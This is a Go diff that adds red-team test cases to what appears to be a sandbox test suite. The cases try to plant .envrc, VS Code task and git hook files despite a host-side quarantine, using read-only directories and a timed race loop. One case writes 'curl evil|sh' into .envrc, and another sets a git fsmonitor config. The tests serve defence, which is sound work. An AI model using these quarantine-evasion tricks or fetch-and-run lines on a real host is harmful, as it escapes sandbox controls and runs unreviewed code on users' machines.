@@ -182,6 +182,23 @@ var attacks = []attack{
 	{name: "F-08/recreate-hooks", config: writeDot,
 		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); os.RemoveAll(e.Path(".git/hooks")) },
 		script: `mkdir .git/hooks && printf '#!/bin/sh\nid\n' > .git/hooks/post-checkout`, worked: exists(".git/hooks/post-checkout")},
+	// Red team B15: a read-only directory made the host-side move fail.
+	{name: "F-07/vscode-readonly-dir", config: writeDot,
+		script: `mkdir .vsx && echo '{"tasks":[]}' > .vsx/tasks.json && chmod 555 .vsx && mv .vsx .vscode`,
+		worked: exists(".vscode/tasks.json")},
+	{name: "F-07/envrc-readonly-root", config: writeDot,
+		// Race the live quarantine: make the project root read-only right
+		// after the rename, until the file stays.
+		script: `for i in $(seq 50); do chmod u+w .; echo 'curl evil|sh' > e.tmp; mv e.tmp .envrc; chmod 555 .; sleep 0.02; test -e .envrc && break; done`,
+		// The root must also get its mode back.
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			fi, err := os.Stat(e.Project)
+			return e.Exists(".envrc") || err != nil || fi.Mode().Perm()&0o200 == 0
+		}},
+	{name: "F-08/hooks-readonly-dir", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); os.RemoveAll(e.Path(".git/hooks")) },
+		script: `mkdir .git/hx && printf '#!/bin/sh\nid\n' > .git/hx/post-checkout && chmod 555 .git/hx && mv .git/hx .git/hooks`,
+		worked: exists(".git/hooks/post-checkout")},
 	{name: "F-09/commondir", config: writeDot, setup: withRepo,
 		script: `mkdir -p .cache/c && printf '[core]\n\tfsmonitor = evil\n' > .cache/c/config && echo ../.cache/c > .git/commondir`,
 		worked: exists(".git/commondir")},
